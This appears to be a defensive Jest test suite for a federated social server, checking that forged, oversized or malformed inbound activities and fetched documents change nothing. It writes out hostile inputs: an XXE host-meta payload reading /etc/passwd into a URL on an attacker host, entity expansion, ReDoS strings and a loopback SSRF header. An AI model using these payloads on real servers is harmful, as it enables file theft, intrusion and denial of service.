import { createHash } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, jest, test } from '@jest/globals';
import { until, type JsonObject } from '../src/index.js';
import { HostileStage } from './hostile-stage.js';
import { stateOf } from './state-of.js';

jest.setTimeout(90_000);

const MEBIBYTE = 1_048_576;
let stage: HostileStage;
beforeAll(async () => {
  stage = await HostileStage.start();
  await stage.follow(stage.alice, stage.eve);
  await stage.follow(stage.alice, stage.vic);
});
afterAll(() => stage.stop());

/** Does it, and expects that every row of every table is as it was; what says that something came may say so. */
async function leavesNothing(attempt: () => Promise<unknown>): Promise<void> {
  await stage.server.settled();
  const believed = async (): Promise<[string, string][]> => [...(await stateOf(stage.server))].filter(([name]) => !/^(?:federation|events)\./.test(name));
  const before = await believed();
  await attempt();
  await stage.server.settled();
  expect(await believed()).toEqual(before);
}

describe('what comes to the inbox', () => {
  test('S003 an activity signed by somebody else makes no row, no event and no notification', async () => {
    await stage.server.settled();
    const before = await stateOf(stage.server);
    const follow = stage.vic.activity('Follow', stage.bob.account.uri);
    expect(await stage.send(stage.eve, follow)).toBe(401);
    expect(await stateOf(stage.server)).toEqual(before);
  });

  test('S006 activities in a collection are not worked on one by one', async () => {
    const stolen = stage.vic.create(stage.vic.note('in a collection'));
    await leavesNothing(async () => {
      for (const type of ['OrderedCollection', 'CollectionPage']) {
        const collection = stage.eve.activity(type, null, { object: undefined, orderedItems: [stolen], items: [stolen] });
        expect([202, 400, 401]).toContain(await stage.send(stage.eve, collection));
      }
    });
    expect(await stage.isStored(stolen.id)).toBe(false);
  });

  test('S007 an id that is a list, an object or of two hosts names nothing', async () => {
    const [mine, theirs] = [`${stage.eve.id}/notes/odd`, `${stage.vic.id}/notes/odd`];
    const note = (id: unknown, extra: JsonObject = {}): JsonObject => ({ ...stage.eve.note('odd'), id, ...extra });
    await leavesNothing(async () => {
      for (const id of [[theirs, mine], [mine, theirs], { id: theirs }, { '@id': theirs }, 17, null]) await stage.send(stage.eve, stage.eve.activity('Create', note(id)));
      for (const author of [[stage.vic.id, stage.eve.id], { id: stage.vic.id }]) await stage.send(stage.eve, stage.eve.activity('Create', note(theirs, { attributedTo: author })));
      for (const actor of [[stage.vic.id, stage.eve.id], { id: stage.vic.id }]) await stage.send(stage.eve, { ...stage.eve.create(stage.eve.note('odd')), actor });
      for (const id of [[`${stage.vic.id}/a`, `${stage.eve.id}/a`], { id: `${stage.eve.id}/a` }]) expect(await stage.send(stage.eve, { ...stage.eve.activity('Follow', stage.bob.account.uri), id })).toBe(400);
    });
  });

  test('S042 a header that comes twice opens no door, whichever comes first', async () => {
    await leavesNothing(async () => {
      for (const turn of [0, 1]) {
        const activity = stage.eve.activity('Follow', stage.bob.account.uri);
        const digests = ['x', JSON.stringify(activity)].map((body) => `SHA-256=${createHash('sha256').update(body).digest('base64')}`);
        const dates = [new Date(0).toUTCString(), new Date().toUTCString()];
        for (const [name, values] of [['Digest', digests], ['Date', dates]] as const) {
          const twice = turn === 0 ? values : values.toReversed();
          expect((await stage.evil.sendActivity(stage.inbox, activity, { headers: { [name]: twice } })).status).toBe(401);
        }
      }
    });
  });

  test('S051 a context that changes between two looks is never looked at', async () => {
    const context = `${stage.evil.baseUrl}/context`;
    let looks = 0;
    stage.evil.generate = (target) => (target === '/context' && (looks += 1) > 0 ? { '@context': { object: looks % 2 === 0 ? 'as:object' : 'as:target' } } : null);
    const note = { ...stage.eve.note('as it stands'), '@context': [context, { content: 'as:summary', attributedTo: 'as:actor' }] };
    expect(await stage.apply(stage.eve, { ...stage.eve.create(note), '@context': ['https://www.w3.org/ns/activitystreams', context] })).toBe('applied');
    expect([(await stage.status(note.id))?.content, looks]).toEqual(['<p>as it stands</p>', 0]);
  });

  test('S052 a forged copy with a proof that does not fit says nothing', async () => {
    const note = stage.vic.note('as written');
    const proof = { type: 'DataIntegrityProof', cryptosuite: 'eddsa-jcs-2022', verificationMethod: `${stage.vic.id}#key`, proofPurpose: 'assertionMethod', proofValue: `z${'5'.repeat(88)}`, created: new Date().toISOString() };
    await stage.send(stage.eve, { ...stage.vic.create({ ...note, content: '<p>as forged</p>' }), proof });
    await stage.server.settled();
    expect([undefined, '<p>as written</p>']).toContain((await stage.status(note.id))?.content);
  });
});

describe('what is fetched', () => {
  test('S075 a document without end, and one longer than a megabyte, make no post and no account', async () => {
    stage.evil.answers.set('/endless', { kind: 'endless' });
    const long = { ...stage.eve.note('long'), id: `${stage.evil.baseUrl}/long`, content: 'x'.repeat(MEBIBYTE) };
    stage.evil.documents.set(long.id, long);
    const before = process.memoryUsage().rss;
    await leavesNothing(async () => {
      for (const path of ['/endless', '/long']) {
        const url = stage.evil.baseUrl + path;
        expect(await stage.apply(stage.eve, stage.eve.activity('Announce', url))).toMatch(/^ignored/);
        expect(await stage.alice.api.get(`/api/v2/search?resolve=true&q=${encodeURIComponent(url)}`)).toMatchObject({ statuses: [], accounts: [] });
      }
    });
    expect(process.memoryUsage().rss - before).toBeLessThan(256 * MEBIBYTE);
  });

  test('S082 a host-meta with entities leads nowhere', async () => {
    const eve = stage.evil.addPerson('xxe');
    stage.evil.answers.set('/.well-known/webfinger', { kind: 'status', status: 404 });
    const xml = `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><XRD><Link rel="lrdd" template="${stage.evil.baseUrl}/&f;&b;?q={uri}"/></XRD>`;
    stage.evil.answers.set('/.well-known/host-meta', { kind: 'status', status: 200, headers: { 'Content-Type': 'application/xrd+xml' }, body: xml });
    const from = stage.evil.gets.length;
    await leavesNothing(async () => expect(await stage.alice.api.get(`/api/v2/search?resolve=true&q=${encodeURIComponent(eve.handle)}`)).toMatchObject({ accounts: [] }));
    expect(stage.evil.gets.slice(from).filter((target) => /root:|aaaa/.test(target))).toEqual([]);
    stage.evil.answers.clear();
  });

  test('S079 half a megabyte of open tags in a post and a profile is stored as little, in no time', async () => {
    const tags = '<link <a a a <math <annotation'.repeat(15_000);
    const note = { ...stage.eve.note('tags'), content: `<p>before</p>${tags}` };
    const startMs = performance.now();
    expect(await stage.apply(stage.eve, stage.eve.create(note))).toBe('applied');
    expect(await stage.apply(stage.eve, stage.eve.activity('Update', stage.eve.actor({ summary: tags })))).toBe('applied');
    expect(performance.now() - startMs).toBeLessThan(20_000);
    expect((await stage.status(note.id))?.content).toMatch(/^<p>before<\/p>/);
    expect((await stage.account(stage.eve.id))?.note.length).toBeLessThan(200_000);
  });

  test('S081 a flood of hosts under one domain makes no accounts', async () => {
    const before = await stage.count('social.accounts');
    for (let n = 0; n < 40; n += 1) {
      const id = `https://u${n}.flood.example/users/x`;
      const answer = await stage.evil.sendBody(stage.inbox, JSON.stringify({ ...stage.eve.activity('Follow', stage.bob.account.uri), id: `${id}/1`, actor: id }), { keyId: `${id}#main-key` });
      expect([401, 429, 503]).toContain(answer.status);
    }
    expect(await stage.count('social.accounts')).toBe(before);
  });
});

describe('what people send', () => {
  test('S085 names, addresses and scopes of any length are refused or cut', async () => {
    const apps = (): Promise<number> => stage.count('identity.apps');
    const before = await apps();
    for (const extra of [{ client_name: 'x'.repeat(100_000) }, { website: `https://x.example/${'x'.repeat(100_000)}` }, { scopes: 'read '.repeat(100_000) }]) {
      const { status } = await stage.alice.api.ask('POST', '/api/v1/apps', { client_name: 'x', redirect_uris: 'urn:ietf:wg:oauth:2.0:oob', scopes: 'read', ...extra });
      expect([200, 413, 422]).toContain(status);
    }
    const [row] = await stage.server.backbone.db.query<{ longest: number }>("SELECT max(length(a::text))::int AS longest FROM identity.apps a");
    expect(row?.longest).toBeLessThan(20_000);
    expect((await apps()) - before).toBeLessThanOrEqual(3);
  });

  test('S088 what bends regular expressions is read in no time, and makes no post', async () => {
    const posts = await stage.count('social.statuses');
    const startMs = performance.now();
    for (const text of [`@${'a.-'.repeat(50_000)}`, `#${'a_'.repeat(50_000)}`, `https://${'a.'.repeat(50_000)}`, '@a@'.repeat(30_000)]) {
      const { status } = await stage.alice.api.ask('POST', '/api/v1/statuses', { status: text });
      expect(status).toBe(422);
    }
    for (const words of ['((((((((', `@${'a.-'.repeat(2_000)}`, `${'a@'.repeat(2_000)}`]) expect((await stage.alice.api.ask('GET', `/api/v2/search?q=${encodeURIComponent(words)}`)).status).toBeLessThan(500);
    expect(performance.now() - startMs).toBeLessThan(10_000);
    expect(await stage.count('social.statuses')).toBe(posts);
  });
});

test('S028 a list of followers of somebody else, or inside, costs nobody a follower', async () => {
  const digest = '0'.repeat(64);
  const followed = async (): Promise<number> => stage.count('social.follows');
  const before = await followed();
  for (const [collectionId, url] of [
    [stage.vic.followers, `${stage.evil.baseUrl}/partial`],
    [stage.eve.followers, `${stage.victim.baseUrl}/partial`],
    [stage.eve.followers, 'http://127.0.0.1:1/partial'],
  ]) {
    const header = `collectionId="${collectionId}", url="${url}", digest="${digest}"`;
    const note = stage.eve.note('with a header');
    const { status } = await stage.evil.sendActivity(stage.inbox, stage.eve.create(note), { extra: { 'collection-synchronization': header } });
    expect(status).toBe(202);
    await until('the post', async () => (await stage.status(note.id)) !== undefined);
  }
  await stage.server.settled();
  expect(await followed()).toBe(before);
});
